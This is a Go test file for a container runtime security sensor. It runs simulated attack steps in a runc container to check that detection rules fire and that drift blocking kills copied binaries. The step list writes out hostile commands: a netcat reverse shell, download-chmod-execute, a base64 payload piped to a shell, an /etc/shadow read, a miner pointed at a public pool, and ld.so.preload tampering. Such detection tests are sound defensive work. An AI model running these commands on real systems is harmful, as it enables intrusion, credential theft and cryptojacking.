package sensor_test

import (
	"errors"
	"os"
	"os/exec"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/detect"
	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/runctest"
	"github.com/vigil-sec/vigil/internal/sensor"
)

// Real attack steps in a real runc container, seen by the real sensor and
// judged by the built-in rules, raise the alerts a security team expects,
// attributed to that container. The steps are Defender's simulator's
// (web shell, miner download and drift, ld.so.preload, CPU optimisation)
// and the classics (reverse shell, base64 payload, shadow read, namespace).
// Many fail inside the container (no such applet, EPERM): the alerts are
// on intent and must fire anyway.
func TestAttacksRaiseAlerts(t *testing.T) {
	busybox, err := exec.LookPath("busybox")
	if err != nil {
		t.Fatal(err)
	}
	rs, err := detect.Load(detect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var alerts []*event.Alert
	eng := detect.New(detect.Config{Rules: rs, Cluster: "test", Emit: func(a *event.Alert) {
		mu.Lock()
		alerts = append(alerts, a)
		mu.Unlock()
	}})

	r := startSensor(t, sensor.Config{})
	c := runctest.Start(t, runctest.Options{Overlay: true, Links: map[string]string{"/usr/sbin/php-fpm8.1": "/bin/busybox"}})
	time.Sleep(50 * time.Millisecond) // drops are strictly after the start

	steps := []struct {
		name  string
		setup func()
		args  []string
		want  []string // rule ids this step must raise
	}{
		{
			name: "web shell: php-fpm runs a shell that runs id",
			args: []string{"/bin/sh", "-c", `exec -a sh /usr/sbin/php-fpm8.1 -c "/bin/sh -c /bin/id"`},
			want: []string{"runtime.web-shell"},
		},
		{
			name: "base64 payload piped to a shell",
			args: []string{"/bin/sh", "-c", "echo aWQ= | base64 -d | sh"},
			want: []string{"runtime.base64-payload-to-shell"},
		},
		{
			name:  "dropped miner executes with a stratum pool",
			setup: func() { c.CopyIn(t, busybox, "/tmp/xmrig", 0o755) },
			args:  []string{"/tmp/xmrig", "--donate-level", "1", "-o", "stratum+tcp://pool.supportxmr.com:3333"},
			want:  []string{"runtime.drift-binary-executed", "runtime.crypto-miner-process", "runtime.crypto-miner-stratum"},
		},
		{
			name: "download, chmod +x and run",
			args: []string{"/bin/sh", "-c", "wget -q -T 1 -O /tmp/kinsing http://127.0.0.1:9/kinsing; cp /bin/busybox /tmp/kinsing; chmod +x /tmp/kinsing; /tmp/kinsing true"},
			want: []string{"runtime.download-chmod-exec"},
		},
		{
			name: "shadow read",
			args: []string{"/bin/cat", "/etc/shadow"},
			want: []string{"runtime.sensitive-file-access"},
		},
		{
			name: "ld.so.preload (touch is not even installed)",
			args: []string{"/bin/sh", "-c", "touch /etc/ld.so.preload"},
			want: []string{"runtime.ld-preload"},
		},
		{
			name: "CPU optimisation for mining (fails: no modules here)",
			args: []string{"/bin/sh", "-c", "modprobe msr allow_writes=on"},
			want: []string{"runtime.cpu-optimization"},
		},
		{
			name: "netcat reverse shell",
			args: []string{"/bin/nc", "-w", "1", "-e", "/bin/sh", "127.0.0.1", "9"},
			want: []string{"runtime.reverse-shell"},
		},
		{
			name: "new user namespace from a container",
			args: []string{"/bin/unshare", "-U", "/bin/true"},
			want: []string{"runtime.user-namespace-creation-from-container"},
		},
	}
	want := map[string]string{}
	for _, s := range steps {
		if s.setup != nil {
			s.setup()
		}
		out, err := c.Exec(t, s.args...)
		t.Logf("%s: %v (exit: %v) %s", s.name, s.args, err, strings.TrimSpace(out))
		for _, id := range s.want {
			want[id] = s.name
		}
	}

	// Feed the sensor's events to the engine until every expected rule
	// fired for this container.
	fed := 0
	deadline := time.Now().Add(20 * time.Second)
	var missing []string
	for {
		events := r.all()
		for _, e := range events[fed:] {
			eng.Process(e)
		}
		fed = len(events)
		mu.Lock()
		missing = missing[:0]
		for id := range want {
			if !slices.ContainsFunc(alerts, func(a *event.Alert) bool { return a.Rule == id && a.ContainerID == c.ID }) {
				missing = append(missing, id)
			}
		}
		mu.Unlock()
		if len(missing) == 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	sort.Strings(missing)
	for _, id := range missing {
		t.Errorf("no %s alert for step %q", id, want[id])
	}
	mu.Lock()
	defer mu.Unlock()
	for _, a := range alerts {
		if a.ContainerID != c.ID {
			// Only this test's own processes count (runc exec on the host
			// carries the container's command line): other tests may run
			// attacks of their own on this machine at the same time.
			if _, expected := want[a.Rule]; expected && ours(a.Process) {
				t.Errorf("%s raised outside the container (container %q): %v %q", a.Rule, a.ContainerID, a.Process.Exe, a.Process.Args)
			}
			continue
		}
		if len(a.Process.Args) > 1 && a.Process.Args[1] == "init" {
			t.Errorf("%s raised on the runtime's own init: %s %q", a.Rule, a.Process.Exe, a.Process.Args)
		}
		if a.Cluster != "test" || a.Process == nil || a.Process.Exe == "" || a.Process.Pid == 0 || a.ID == "" || a.FirstSeen.IsZero() {
			t.Errorf("%s: attribution incomplete: %+v", a.Rule, a)
		}
		t.Logf("alert %s [%s] pid %d %s %q", a.Rule, a.Severity, a.Process.Pid, a.Process.Exe, a.Process.Args)
	}
}

// ours reports whether p descends from this test process.
func ours(p *event.Process) bool {
	self := uint32(os.Getpid())
	if p.Ppid == self {
		return true
	}
	for _, a := range p.Ancestry {
		if a.Pid == self {
			return true
		}
	}
	return false
}

// Binary drift in block mode, live: a drift policy that blocks drift in
// the test's namespaces (scoped by namespace, image and label, as a CRI
// runtime annotates the container) kills a binary copied into the running
// container as it runs, and says so in the alert; the image's own binaries
// run untouched under the same policy; and an exception covering the drift
// wins over block: the process lives and nothing is raised.
func TestAttacksDriftBlock(t *testing.T) {
	busybox, err := exec.LookPath("busybox")
	if err != nil {
		t.Fatal(err)
	}
	rs, err := detect.Load(detect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	const (
		rule       = "runtime.drift-binary-executed"
		blockedNS  = "vigil-drift-block"
		exceptedNS = "vigil-drift-excepted"
	)
	policy := detect.DriftPolicy{Rules: []detect.DriftRule{{Name: "block drift in the test's prod pods", Action: detect.DriftBlock,
		Namespace: "vigil-drift-*", Image: "*/vigil-drift-test:*", Labels: map[string]string{"tier": "prod"}}}}
	if err := policy.Validate(); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var alerts []*event.Alert
	eng := detect.New(detect.Config{Rules: rs, Cluster: "test", Drift: policy,
		Exceptions: []detect.Exception{{ID: "drift-test-excepted", Rules: []string{rule}, Namespace: exceptedNS,
			Reason: "this namespace is expected to run added binaries"}},
		Emit: func(a *event.Alert) {
			mu.Lock()
			alerts = append(alerts, a)
			mu.Unlock()
		}})
	driftAlerts := func(id string) []*event.Alert {
		mu.Lock()
		defer mu.Unlock()
		var out []*event.Alert
		for _, a := range alerts {
			if a.Rule == rule && a.ContainerID == id {
				out = append(out, a)
			}
		}
		return out
	}

	r := startSensor(t, sensor.Config{})
	// Feed the sensor's events to the engine as they come, as vigil
	// sensor does: the kill happens when the engine sees the exec.
	stop := make(chan struct{})
	fedDone := make(chan struct{})
	go func() {
		defer close(fedDone)
		fed := 0
		for {
			events := r.all()
			for _, e := range events[fed:] {
				eng.Process(e)
			}
			fed = len(events)
			select {
			case <-stop:
				return
			case <-time.After(10 * time.Millisecond):
			}
		}
	}()
	t.Cleanup(func() { close(stop); <-fedDone })

	annotations := func(ns string) map[string]string {
		return map[string]string{ // CRI-O's keys
			"io.kubernetes.pod.namespace":       ns,
			"io.kubernetes.pod.name":            "shop-0",
			"io.kubernetes.container.name":      "app",
			"io.kubernetes.cri-o.ImageName":     "registry.example/vigil-drift-test:1",
			"io.kubernetes.cri-o.Labels":        `{"tier":"prod","app":"shop"}`,
			"io.kubernetes.cri-o.ContainerType": "container",
		}
	}
	blocked := runctest.Start(t, runctest.Options{Overlay: true, Annotations: annotations(blockedNS)})
	excepted := runctest.Start(t, runctest.Options{Overlay: true, Annotations: annotations(exceptedNS)})
	time.Sleep(50 * time.Millisecond) // drops are strictly after the start

	exitCode := func(err error) int {
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			return ee.ExitCode()
		}
		if err != nil {
			t.Fatalf("runc exec: %v", err)
		}
		return 0
	}
	killedBefore := eng.Stats().Killed

	// 1. A busybox copied into the running container, run as sleep 30:
	// killed by SIGKILL at once (runc exec reports 128+9).
	blocked.CopyIn(t, busybox, "/tmp/sleep", 0o755)
	start := time.Now()
	out, err := blocked.Exec(t, "/tmp/sleep", "30")
	took := time.Since(start)
	t.Logf("drifted /tmp/sleep 30: exit %v after %v %s", err, took.Round(time.Millisecond), strings.TrimSpace(out))
	if code := exitCode(err); code != 128+9 {
		t.Fatalf("drifted process exited %d, want 137 (SIGKILL)", code)
	}
	if took > 3*time.Second {
		t.Errorf("the drifted process died %v after it started, want within a second or two", took)
	}
	var killed *event.Alert
	for deadline := time.Now().Add(5 * time.Second); killed == nil && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		for _, a := range driftAlerts(blocked.ID) {
			if a.Process != nil && a.Process.Exe == "/tmp/sleep" {
				killed = a
			}
		}
	}
	if killed == nil {
		t.Fatal("no drift alert for the killed process")
	}
	t.Logf("alert %s action %q pid %d %s %q ns %s image %s labels %v evidence %v", killed.Rule, killed.Action, killed.Process.Pid,
		killed.Process.Exe, killed.Process.Args, killed.Namespace, killed.Image, killed.Labels, killed.Evidence)
	if killed.Action != detect.ActionKilled {
		t.Errorf("alert action %q (evidence %v), want %q", killed.Action, killed.Evidence, detect.ActionKilled)
	}
	if killed.Namespace != blockedNS || killed.Cluster != "test" || killed.Process.Pid == 0 {
		t.Errorf("alert attribution: namespace %q cluster %q pid %d", killed.Namespace, killed.Cluster, killed.Process.Pid)
	}
	if got := eng.Stats().Killed - killedBefore; got != 1 {
		t.Errorf("engine killed %d processes, want 1", got)
	}

	// 2. The image's own sleep under the same policy: not drift, not killed.
	start = time.Now()
	out, err = blocked.Exec(t, "/bin/sleep", "2")
	took = time.Since(start)
	if code := exitCode(err); code != 0 || took < 2*time.Second {
		t.Errorf("shipped /bin/sleep 2: exit %d after %v %s; want 0 after 2s (not killed)", code, took, out)
	}
	if r.find(func(e *event.Event) bool {
		return e.Kind == event.ProcessExec && e.Container != nil && e.Container.ID == blocked.ID && !e.Process.Drift &&
			slices.Equal(e.Process.Args, []string{"/bin/sleep", "2"})
	}) == nil {
		t.Error("the sensor did not see the shipped sleep: the not-killed check proves nothing")
	}

	// 3. The excepted namespace, same policy: the drifted process runs to
	// its end, and the drift is suppressed, not raised.
	excepted.CopyIn(t, busybox, "/tmp/sleep", 0o755)
	suppressedBefore := eng.Stats().Suppressed
	cmd := exec.Command("runc", "exec", excepted.ID, "/tmp/sleep", "3")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	seen := r.wait(t, "the excepted drift exec", 3*time.Second, func(e *event.Event) bool {
		return e.Kind == event.ProcessExec && e.Container != nil && e.Container.ID == excepted.ID && e.Process.Exe == "/tmp/sleep"
	})
	if !seen.Process.Drift || seen.Container.Namespace != exceptedNS {
		t.Errorf("excepted exec: drift %v namespace %q: the policy would not block it anyway", seen.Process.Drift, seen.Container.Namespace)
	}
	err = cmd.Wait()
	if code := exitCode(err); code != 0 {
		t.Errorf("excepted drifted /tmp/sleep 3 exited %d, want 0 (not killed)", code)
	}
	if eng.Stats().Suppressed == suppressedBefore {
		t.Error("the engine suppressed nothing: the exception did not apply")
	}
	time.Sleep(200 * time.Millisecond) // anything still in flight
	if as := driftAlerts(excepted.ID); len(as) != 0 {
		t.Errorf("excepted drift raised %d alerts: action %q", len(as), as[0].Action)
	}
	if got := eng.Stats().Killed - killedBefore; got != 1 {
		t.Errorf("engine killed %d processes in all, want 1", got)
	}
}
